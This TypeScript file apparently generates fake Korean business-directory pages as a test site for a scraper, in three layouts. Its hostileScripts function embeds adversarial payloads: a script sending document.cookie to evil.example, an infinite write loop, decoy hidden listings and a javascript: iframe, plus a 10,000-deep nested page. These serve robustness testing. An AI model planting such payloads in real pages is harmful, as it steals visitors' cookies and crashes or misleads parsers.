/** The pages of the local site, in the layout of each directory. */
import { REGIONS, type Region, type Source } from '../pages/listing.ts';
import type { Shown } from './companies.ts';

/** Entries of a page of a list. */
export const ENTRIES_PER_PAGE = 10;

/** A list page: which entries, and whether there is another one behind it. */
export interface ListShown {
  readonly region: Region;
  readonly page: number;
  readonly keys: readonly string[];
  readonly isLast: boolean;
}

/** A list page of a directory. */
export function listHtml(source: Source, { region, page, keys, isLast }: ListShown): string {
  if (source === 'directory') {
    const links = keys.map(
      (key) => `<li><a class="company" href="/directory/company/${key}">자세히</a></li>`,
    );
    const next = isLast ? '' : `<a rel="next" href="?page=${page + 1}">다음</a>`;
    return document(`<section class="companies"><ul>${links.join('\n')}</ul></section>${next}`);
  }
  if (source === 'yellow_pages') {
    // Tags are left open, as they were when such pages were written.
    const rows = keys.map((key) => `<tr data-id=${key}><td onclick="view('${key}')">보기`);
    const next = isLast
      ? ''
      : `<table><tr><td class=pages><a class=next href="javascript:go(${page + 1})">▶</a></table>`;
    return oldDocument(`<table class=list>${rows.join('\n')}</table>${next}`);
  }
  const items = keys.map((key, at) => ({ '@type': 'ListItem', position: at + 1, url: `/map/place/${key}` }));
  const next = isLast ? '' : `<link rel="next" href="/map/${region}/${page + 1}">`;
  return appDocument({ '@type': 'ItemList', itemListElement: items }, next);
}

/** The page of an entry; without a name where it is nameless. */
export function entryHtml(source: Source, shown: Shown): string {
  const name = shown.peculiarity === 'nameless' ? '' : shown.name;
  const scripts = shown.peculiarity === 'scripts' ? hostileScripts() : '';
  if (source === 'directory') {
    const terms = termsOf(shown, ['사업자등록번호', '대표자', '주소', '전화', '이메일', '업종', '임직원']);
    const list = terms.map(([term, value]) => `<dt>${term}</dt><dd>${escaped(value)}</dd>`).join('\n');
    const site =
      shown.website === undefined ? '' : `<a itemprop="url" href="${escaped(shown.website)}">홈페이지</a>`;
    const about = shown.about === undefined ? '' : `<p class="about">${escaped(shown.about)}</p>`;
    return document(
      `${scripts}<article class="company"><h1 itemprop="name">${escaped(name)}</h1><dl>${list}</dl>${site}${about}</article>${scripts}`,
    );
  }
  if (source === 'yellow_pages') {
    const terms = termsOf(shown, [
      '사업자번호',
      '대표',
      '소재지',
      '전화번호',
      'E-mail',
      '취급품목',
      '사원수',
    ]);
    const all = [['상호', name] as const, ...terms, ['홈페이지', shown.website ?? ''] as const];
    const rows = all.map(([term, value]) => `<tr><th>${term}<td>${escaped(value)}`).join('\n');
    return oldDocument(`${scripts}<table class=view border=0>${rows}</table>${scripts}`);
  }
  const place = {
    '@context': 'https://schema.org',
    '@type': 'LocalBusiness',
    name,
    telephone: shown.phone,
    email: shown.email === undefined ? undefined : `mailto:${shown.email}`,
    url: shown.website,
    taxID: shown.businessNumber,
    description: shown.about,
    founder:
      shown.representative === undefined ? undefined : { '@type': 'Person', name: shown.representative },
    address: { '@type': 'PostalAddress', streetAddress: shown.address },
    numberOfEmployees: shown.employees === undefined ? undefined : { value: shown.employees },
  };
  return appDocument(place, '', scripts);
}

/** A page nested so deep that whoever goes down by recursion does not come back. */
export function nestedHtml(): string {
  return document(`${'<div><b><i>'.repeat(10_000)}깊다`);
}

type Term = readonly [term: string, value: string];

/** The terms of an entry under the names that a directory has for them, those that it knows. */
function termsOf(shown: Shown, names: readonly string[]): Term[] {
  const people = shown.employees === undefined ? undefined : `${shown.employees.toLocaleString('en')}명`;
  const isOld = names.includes('취급품목');
  const values = [
    shown.businessNumber,
    shown.representative,
    shown.address,
    shown.phone,
    shown.email,
    isOld ? shown.about : shown.trade,
    people,
  ];
  return names.flatMap((name, at): Term[] => (values[at] === undefined ? [] : [[name, values[at]]]));
}

/** What would do harm to whoever runs it, and looks like a listing to whoever searches the text of a page. */
function hostileScripts(): string {
  return `<script>while(true){document.write('<h1 itemprop="name">거짓</h1>')}</script>
<noscript><img src="/beacon?victim=1"></noscript>
<script>var phone = "+82-2-9999-9999", mail = "spy@evil.example"; fetch("https://evil.example/" + document.cookie)</script>
<template><article class="company"><h1 itemprop="name">가짜</h1></article></template>
<!-- <table class="view"><tr><th>상호<td>숨은 회사</table> --><iframe src="javascript:alert(1)"></iframe>`;
}

function escaped(text: string): string {
  return text.replace(/[&<>"]/g, (character) => `&#${character.charCodeAt(0)};`);
}

function document(body: string): string {
  const regions = REGIONS.map((region) => `<a href="/directory/${region}">${region}</a>`).join(' ');
  return `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>기업 디렉터리</title></head><body><nav>${regions}</nav>${body}</body></html>`;
}

function oldDocument(body: string): string {
  return `<html><head><meta http-equiv=Content-Type content="text/html; charset=euc-kr"><title>전화번호부</title><body bgcolor=#ffffff><font size=2>${body}</font>`;
}

function appDocument(data: object, head: string, body = ''): string {
  const json = JSON.stringify(data).replaceAll('<', '\\u003c');
  return `<!doctype html><html lang="ko"><head><meta charset="utf-8">${head}<script type="application/ld+json">{"@type":"WebSite","name":"지도"}</script><script type="application/ld+json">${json}</script></head><body><div id="app"></div>${body}</body></html>`;
}
